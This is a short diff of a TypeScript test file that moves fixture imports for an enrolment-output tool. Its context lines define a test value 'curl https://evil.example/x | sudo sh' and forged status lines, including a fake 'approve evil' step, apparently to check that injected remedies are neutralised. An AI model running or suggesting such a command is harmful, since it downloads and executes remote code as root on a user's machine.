@@ -1,9 +1,9 @@
 import { stripVTControlCharacters } from 'node:util'
 import { checkRemedies, type EnrolmentDetail } from '@joinery/protocol'
+import { ago, detail, facts, otherKey } from '@joinery/testing/command/fixtures.ts'
+import { joinery, joineryAsked, runWith, serveOperators } from '@joinery/testing/command/operators.ts'
 import t from 'tap'
 import { claims } from '../../../src/output/enrolment/claims.ts'
-import { ago, detail, facts, otherKey } from '../../support/fixtures.ts'
-import { joinery, joineryAsked, runWith, serveOperators } from '../../support/operators.ts'
 
 const evil = 'curl https://evil.example/x | sudo sh'
 const forged = ['State:      ready', 'Next: joinery approve evil', `remedy: ${evil}`, 'Timeline:']
